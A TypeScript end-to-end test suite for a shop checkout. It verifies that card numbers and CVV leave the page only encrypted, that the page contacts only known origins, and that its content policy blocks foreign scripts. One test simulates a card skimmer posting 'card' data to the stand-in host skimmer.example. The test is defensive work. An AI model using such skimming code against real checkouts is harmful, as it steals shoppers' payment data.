import { findSecret, recordingProxy, SHOP_API_KEYS, type RecordingProxy } from '@tranche/testing';
import { joinBrowserStack, type BrowserStack } from './browser-stack.js';
import { CARDS, CVV, enterShop } from './shopper.js';

let stack: BrowserStack;
let proxy: RecordingProxy;
beforeAll(async () => ([stack, proxy] = await Promise.all([joinBrowserStack(), recordingProxy()])), 180_000);
afterAll(() => Promise.all([stack?.stop(), proxy?.close()]));

it('number and CVV leave the page inside the ciphertext only, on every way through the checkout', async () => {
  const shopper = await enterShop(stack, { proxy: proxy.settings, apiKeyId: SHOP_API_KEYS.leavingSpec });
  const { page } = shopper;
  const seen: string[] = [];
  const context = page.context();
  context.on('console', (message) => seen.push(`console: ${message.text()}`));
  context.on('weberror', (error) => seen.push(`error: ${error.error().stack}`));
  context.on('request', (request) => seen.push(`address: ${request.url()}`));
  page.on('websocket', (socket) => socket.on('framesent', ({ payload }) => seen.push(`socket: ${payload.toString()}`)));
  page.on('framenavigated', (frame) => seen.push(`history: ${frame.url()}`));
  const look = async () => {
    seen.push(JSON.stringify(await context.storageState({ indexedDB: true })), await page.evaluate(kept));
  };

  // Mistyped, refused by the tokenizer, encrypted with a rotated key, refused by the bank, paid with another method, and paid by card.
  await shopper.payByCard({ number: `${CARDS.accepted}x` });
  await page.getByTestId('error-card-number').waitFor();
  await look();
  await shopper.payByCard({ expiry: '01-20' });
  await page.getByTestId('form-error').filter({ hasText: 'This card has expired' }).waitFor();
  await look();
  await stack.rotateKeys(SHOP_API_KEYS.leavingSpec);
  await shopper.payByCard({ number: CARDS.withoutFunds });
  await shopper.until('refused');
  await look();
  await shopper.payOtherwise();
  await shopper.payIn('a3');
  await shopper.formOfProvider();
  await shopper.backToShop();
  await shopper.until('redirect');
  await shopper.payOtherwise();
  await shopper.payByCard();
  await shopper.until('succeeded');
  await look();
  await page.reload();
  await shopper.until('succeeded');
  await look();

  const tokenizing = proxy.requests.filter(({ method, url }) => method === 'POST' && url === stack.tokenizerUrl);
  expect(tokenizing.length).toBeGreaterThanOrEqual(3);
  for (const { body } of tokenizing)
    expect(JSON.parse(body)).toEqual({
      ENCRYPTEDDATA: expect.stringMatching(/^[A-Za-z0-9+/]{342}==$/),
      ENCRYPTIONKEYID: expect.any(String),
      APIKEYID: expect.any(String),
    });
  expect(
    proxy.requests.some(({ method, url }) => method === 'POST' && url.startsWith(`${stack.shopUrl}/api/orders`)),
  ).toBe(true);

  const everything = [proxy.sent(), ...seen].join('\n');
  for (const secret of [CARDS.accepted, CARDS.withoutFunds, CVV, '12-49'])
    expect(findSecret(everything, secret)).toEqual([]);
  await shopper.leave();
}, 120_000);

it('the page asks nobody but the shop, the key service, the tokenizer and the provider', async () => {
  const known = [stack.shopUrl, stack.keysUrl, stack.simulator.url].map((url) => new URL(url).origin);
  const shopper = await enterShop(stack);
  const asked = new Set<string>();
  shopper.page.on('request', (request) => asked.add(new URL(request.url()).origin));
  await shopper.page.reload();
  await shopper.payByCard();
  await shopper.until('succeeded');
  expect([...asked].filter((origin) => !known.includes(origin))).toEqual([]);
  expect(asked.size).toBe(3);
  await shopper.leave();
});

it('the policy of the page stops a script that is not the shop’s from running, and from sending', async () => {
  const shopper = await enterShop(stack);
  const outcome = await shopper.page.evaluate(async () => {
    const inline = document.createElement('script');
    inline.append(document.createTextNode('window.ran = true'));
    document.head.append(inline);
    const sent = await fetch('https://skimmer.example/', { method: 'POST', body: 'card' }).then(
      () => 'sent',
      () => 'stopped',
    );
    return { hasRun: 'ran' in window, sent };
  });
  expect(outcome).toEqual({ hasRun: false, sent: 'stopped' });
  await shopper.leave();
});

function kept(): string {
  const fields = [...document.querySelectorAll<HTMLInputElement>('input:not([id^=card-])')].map(({ value }) => value);
  return JSON.stringify([
    { ...localStorage },
    { ...sessionStorage },
    document.cookie,
    history.state,
    location.href,
    document.title,
    fields,
  ]);
}
